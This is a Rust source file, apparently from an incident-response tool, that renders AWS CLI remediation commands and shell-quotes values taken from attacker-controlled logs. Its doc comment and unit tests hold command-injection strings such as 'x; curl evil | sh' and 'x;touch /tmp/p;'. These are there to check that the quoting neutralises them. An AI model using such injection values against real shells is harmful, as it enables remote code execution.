//! AWS CLI commands rendered with the case's values. They are printed for the responder to
//! review and run; trailhound never executes them.
//!
//! Values come from logs an attacker wrote (a user name can be `x; curl evil | sh`), so every
//! value is shell-quoted unless it is plainly safe, and control characters are dropped.

use super::variables::Variables;

/// Commands rendered from one template: the cartesian product over multi-valued placeholders,
/// capped so that a variable with hundreds of values does not flood the screen.
pub const MAX_COMMANDS: usize = 25;

#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Rendered {
    pub command: String,
    /// Placeholders without a value, left as `<name>` for the responder to fill in.
    pub missing: Vec<String>,
}

/// A template split once into literal text and placeholders, so that a value can never be read
/// as a placeholder itself (a value `{region}` stays those eight characters).
enum Piece<'a> {
    Text(&'a str),
    Placeholder(&'a str),
}

fn pieces(template: &str) -> Vec<Piece<'_>> {
    let mut out = Vec::new();
    let rest = template;
    let mut text_start = 0;
    let mut at = 0;
    while let Some(open) = rest[at..].find('{').map(|i| at + i) {
        let Some(close) = rest[open + 1..].find('}').map(|i| open + 1 + i) else { break };
        let name = &rest[open + 1..close];
        if super::model::is_variable_name(name) {
            out.push(Piece::Text(&rest[text_start..open]));
            out.push(Piece::Placeholder(name));
            text_start = close + 1;
            at = close + 1;
        } else {
            // Not a placeholder (inline JSON, say): look again from just after this brace.
            at = open + 1;
        }
    }
    out.push(Piece::Text(&rest[text_start..]));
    out
}

/// The `{name}` placeholders of a template, in order.
pub fn placeholders(template: &str) -> Vec<&str> {
    let mut out = Vec::new();
    for piece in pieces(template) {
        if let Piece::Placeholder(name) = piece
            && !out.contains(&name)
        {
            out.push(name);
        }
    }
    out
}

/// Placeholders that sit inside a quoted part of the template. A value there would not be its
/// own shell word, so its quoting could not protect it: such templates are refused.
pub fn quoted_placeholders(template: &str) -> Vec<&str> {
    let mut quote: Option<char> = None;
    let mut out = Vec::new();
    for piece in pieces(template) {
        match piece {
            Piece::Text(text) => {
                for c in text.chars() {
                    quote = match (quote, c) {
                        (None, '\'' | '"') => Some(c),
                        (Some(q), c) if c == q => None,
                        (q, _) => q,
                    };
                }
            }
            Piece::Placeholder(name) if quote.is_some() => out.push(name),
            Piece::Placeholder(_) => {}
        }
    }
    out
}

pub fn render(template: &str, vars: &Variables) -> Vec<Rendered> {
    let names = placeholders(template);
    let missing: Vec<String> = names.iter().filter(|n| !vars.is_set(n)).map(|n| n.to_string()).collect();
    // Every combination of values, odometer style. A missing value is a quoted `"<name>"`: pasted
    // by mistake it is a harmless wrong argument, not a shell redirection.
    let choices: Vec<Vec<String>> = names
        .iter()
        .map(|n| {
            let values: Vec<String> = vars.get(n).iter().map(|v| shell_quote(&v.text)).collect();
            if values.is_empty() { vec![format!("\"<{n}>\"")] } else { values }
        })
        .collect();
    let template_pieces = pieces(template);
    let mut out = Vec::new();
    let mut at = vec![0usize; names.len()];
    loop {
        let mut command = String::new();
        for piece in &template_pieces {
            match piece {
                Piece::Text(text) => command.push_str(text),
                Piece::Placeholder(name) => {
                    let i = names.iter().position(|n| n == name).expect("every placeholder is named");
                    command.push_str(&choices[i][at[i]]);
                }
            }
        }
        out.push(Rendered { command, missing: missing.clone() });
        if out.len() >= MAX_COMMANDS {
            break;
        }
        let mut i = names.len();
        loop {
            if i == 0 {
                return out;
            }
            i -= 1;
            at[i] += 1;
            if at[i] < choices[i].len() {
                break;
            }
            at[i] = 0;
        }
    }
    out
}

/// A value as one shell word: bare when it can only be read one way, else single-quoted.
pub fn shell_quote(value: &str) -> String {
    let clean: String = value.chars().filter(|c| !c.is_control()).collect();
    let safe = !clean.is_empty()
        && clean.chars().all(|c| c.is_ascii_alphanumeric() || "-_./:@=+,%".contains(c))
        && !clean.starts_with('-');
    if safe { clean } else { format!("'{}'", clean.replace('\'', "'\\''")) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_every_value_and_marks_missing_ones() {
        let mut vars = Variables::default();
        vars.set("key", &["AKIA1".into(), "AKIA2".into()], "responder");
        let out = render("aws iam update-access-key --user-name {user} --access-key-id {key} --status Inactive", &vars);
        assert_eq!(out.len(), 2);
        assert_eq!(
            out[1].command,
            "aws iam update-access-key --user-name \"<user>\" --access-key-id AKIA2 --status Inactive"
        );
        assert_eq!(out[0].missing, vec!["user"]);
    }

    #[test]
    fn attacker_values_cannot_break_out_of_their_word() {
        assert_eq!(shell_quote("ci-deploy"), "ci-deploy");
        assert_eq!(shell_quote("x; curl evil | sh"), "'x; curl evil | sh'");
        assert_eq!(shell_quote("it's"), "'it'\\''s'");
        assert_eq!(shell_quote("--profile=evil"), "'--profile=evil'");
        assert_eq!(shell_quote("a\u{1b}[2Jb"), "'a[2Jb'");
    }

    #[test]
    fn inline_json_is_not_a_placeholder() {
        let mut vars = Variables::default();
        vars.set("role", &["r".into()], "responder");
        assert_eq!(placeholders(r#"--doc '{"a":{role}}' {role}"#), vec!["role"]);
        assert_eq!(render(r#"x '{"a":1}' {role}"#, &vars)[0].command, r#"x '{"a":1}' r"#);
    }

    #[test]
    fn a_value_is_never_read_as_a_placeholder() {
        let mut vars = Variables::default();
        vars.set("instance", &["{region}".into()], "pb/s/q");
        vars.set("region", &["x;touch /tmp/p;".into()], "pb/s/q");
        let out = render("aws ec2 stop-instances --instance-ids {instance} --region {region}", &vars);
        assert_eq!(out[0].command, "aws ec2 stop-instances --instance-ids '{region}' --region 'x;touch /tmp/p;'");
    }

    #[test]
    fn placeholders_inside_quotes_are_found() {
        assert_eq!(quoted_placeholders(r#"x --doc '{"a":"{bucket}"}' {key}"#), vec!["bucket"]);
        assert_eq!(quoted_placeholders(r#"x --doc '{"a":"'{bucket}'"}' "{key}""#), vec!["key"]);
        assert!(quoted_placeholders("aws s3api get-bucket-policy --bucket {bucket}").is_empty());
    }

    #[test]
    fn output_is_capped() {
        let mut vars = Variables::default();
        let many: Vec<String> = (0..100).map(|i| format!("v{i}")).collect();
        vars.set("a", &many, "responder");
        vars.set("b", &many, "responder");
        assert_eq!(render("{a} {b}", &vars).len(), MAX_COMMANDS);
    }
}
